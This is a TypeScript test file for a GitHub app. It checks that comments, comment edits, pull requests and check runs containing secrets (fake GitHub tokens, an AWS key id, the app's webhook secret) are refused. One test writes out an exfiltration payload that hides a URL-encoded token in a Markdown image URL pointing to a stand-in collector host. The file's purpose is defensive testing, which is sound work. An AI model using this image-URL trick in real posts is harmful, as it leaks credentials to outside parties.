import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadSettings } from '../../src/config/settings.js';
import { createProbot } from '../../src/github/create-probot.js';
import type { GitHubClient } from '../../src/github/client.js';
import { OutboundSecretError } from '../../src/integrations/secrets/index.js';
import { testLogger } from '../support/test-logger.js';
import { startGitHubTwin } from '../twins/github/index.js';
import type { GitHubTwin } from '../twins/github/twin.js';

// Shaped like real credentials, made up.
const GITHUB_TOKEN = 'ghp_Q7sL2kV9xR4mN8bT1cY6wZ3pF5hJ0dA2eG4u';
const KEY_ID = 'AKIAZ7VQ3WXKJD4HLMPR';
const repo = { owner: 'acme', repo: 'widgets' };

describe("the app's writes to GitHub", () => {
  let twin: GitHubTwin;
  let octokit: GitHubClient;
  let issueNumber: number;
  beforeAll(async () => {
    twin = await startGitHubTwin();
    const { id } = await twin.createInstallation({ account: 'acme' });
    await twin.createRepo({ ...repo, name: repo.repo, files: { 'README.md': '#\n' }, installationId: id });
    twin.addUser('maria');
    issueNumber = (await twin.openIssue('acme/widgets', { title: 'Anything', user: 'maria' })).number;
    const settings = loadSettings({
      APP_ID: String(twin.app.appId),
      PRIVATE_KEY: twin.app.privateKey,
      WEBHOOK_SECRET: twin.app.webhookSecret,
      GITHUB_API_URL: twin.url,
      GITHUB_THROTTLE: 'off',
    });
    octokit = await createProbot(settings, testLogger()).auth(id);
  });
  afterAll(() => twin.close());

  const writes = (method: string, pathPart: string) =>
    twin.requests.filter((r) => r.method === method && r.path.includes(pathPart));

  async function refusal(write: Promise<unknown>): Promise<OutboundSecretError> {
    const error = await write.catch((e: unknown) => e);
    expect(error).toBeInstanceOf(OutboundSecretError);
    if (!(error instanceof OutboundSecretError)) throw new Error('unreachable');
    return error;
  }

  it('posts an ordinary comment', async () => {
    const body =
      'Plan: add `sub()`. See [the docs](https://example.com/docs?page=2) and ![chart](https://example.com/c.png).';
    await octokit.rest.issues.createComment({ ...repo, issue_number: issueNumber, body });
    expect(twin.comments('acme/widgets', issueNumber).map((c) => c.body)).toContain(body);
  });

  it('does not post a comment holding a token, and says so without the token', async () => {
    const before = writes('POST', '/comments').length;
    const error = await refusal(
      octokit.rest.issues.createComment({
        ...repo,
        issue_number: issueNumber,
        body: `here: ${GITHUB_TOKEN}`,
      }),
    );
    expect(error.message).toMatch(/^A comment was not sent to GitHub because it seems to contain a secret/);
    expect(error.message).toContain('ghp_…');
    expect(error.message).not.toContain(GITHUB_TOKEN);
    expect(writes('POST', '/comments')).toHaveLength(before);
  });

  it("does not edit a comment into one holding an AWS key id, or the app's own webhook secret", async () => {
    const [comment] = twin.comments('acme/widgets', issueNumber);
    if (!comment) throw new Error('no comment to edit');
    const edits = writes('PATCH', '/comments').length;
    for (const body of [`key ${KEY_ID}`, `hook secret: ${twin.app.webhookSecret}`]) {
      await refusal(octokit.rest.issues.updateComment({ ...repo, comment_id: comment.id, body }));
    }
    expect(writes('PATCH', '/comments')).toHaveLength(edits);
  });

  it('does not open a pull request whose body hides a token in an image URL', async () => {
    const encoded = GITHUB_TOKEN.replace('_', '%5F');
    const error = await refusal(
      octokit.rest.pulls.create({
        ...repo,
        head: 'pipeline/issue-1-x',
        base: 'main',
        title: 'Add sub',
        body: `Done.\n\n![ok](https://collector.example/pixel.png?t=${encoded})`,
      }),
    );
    expect(error.place).toBe('A pull request');
    expect(writes('POST', '/pulls')).toHaveLength(0);
  });

  it('does not create a check run whose annotation holds a token', async () => {
    const error = await refusal(
      octokit.rest.checks.create({
        ...repo,
        name: 'pipeline/tests',
        head_sha: 'a'.repeat(40),
        output: {
          title: 'Tests failed',
          summary: '1 failed',
          annotations: [
            {
              path: 'a.js',
              start_line: 1,
              end_line: 1,
              annotation_level: 'failure',
              message: `got ${GITHUB_TOKEN}`,
            },
          ],
        },
      }),
    );
    expect(error.place).toBe('A check run');
    expect(writes('POST', '/check-runs')).toHaveLength(0);
  });
});
